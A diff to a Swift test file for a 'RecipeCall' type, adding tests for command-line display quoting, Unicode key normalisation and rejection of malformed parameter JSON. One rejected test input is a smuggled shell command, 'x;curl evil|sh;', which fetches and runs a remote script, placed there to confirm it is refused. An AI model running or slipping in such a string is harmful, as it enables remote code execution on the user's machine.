@@ -7,6 +7,8 @@ import Testing
     RecipeCall(
       recipe: "/a/new\nline.lua",
       parameters: ["size": .text("8"), "tags": .list(["a b", "c"]), "say": .text("it's\n{}")]),
+    RecipeCall(recipe: "/a/x\n{}", parameters: nil), RecipeCall(recipe: "/a/x\r", parameters: [:]),
+    RecipeCall(recipe: "/a/x\n", parameters: nil), RecipeCall(recipe: "/a/x\ny", parameters: nil),
   ]
 
   @Test(arguments: calls) func `the record has a call as one text`(_ call: RecipeCall) {
@@ -30,9 +32,30 @@ import Testing
       call.shown(in: "/a")
         == #"'my recipe.lua' --big=true --max-size 8 --say 'it'\''s' --tags a,b"#)
     #expect(RecipeCall(recipe: "/b/r.lua").shown(in: "/a") == "/b/r.lua")
+    #expect(RecipeCall(recipe: "/a/-r.lua").shown(in: "/a") == "./-r.lua")
+    #expect(
+      RecipeCall(recipe: "/a/r.lua", parameters: nil).shown(in: "/a")
+        == "r.lua (parameters unknown)")
   }
 
-  @Test(arguments: ["[]", #"{"a":1}"#, #"{"a":[1]}"#, #"{"a":{}}"#])
+  @Test func `a value that an option cannot have is shown in another way`() {
+    let call = RecipeCall(
+      recipe: "/a/r.lua", parameters: ["root": .text("y z"), "tags": .list(["a,b", "c"])])
+    #expect(call.shown(in: "/a", ["root"]) == "r.lua -p 'root=y z' --tags a,b --tags c")
+  }
+
+  @Test func `a call has one text, however its letters are composed`() {
+    let (one, two) = ("caf\u{E9}", "cafe\u{301}")
+    let keys = [one, two].map { name in
+      RecipeCall(recipe: "/a/\(name).lua", parameters: ["say": .text(name)]).key.utf8.map(\.self)
+    }
+    #expect(keys[0] == keys[1])
+  }
+
+  @Test(arguments: [
+    "[]", #"{"a":1}"#, #"{"a":[1]}"#, #"{"a":{}}"#, #"{"x;curl evil|sh;":"1"}"#, #"{"9":"1"}"#,
+    #"{"":"1"}"#, #"{"a":"\#(String(repeating: "x", count: 65_537))"}"#,
+  ])
   func `other values are none of a parameter`(_ text: String) throws {
     #expect(RecipeCall(key: "/a/r.lua\n" + text).parameters == nil)
   }
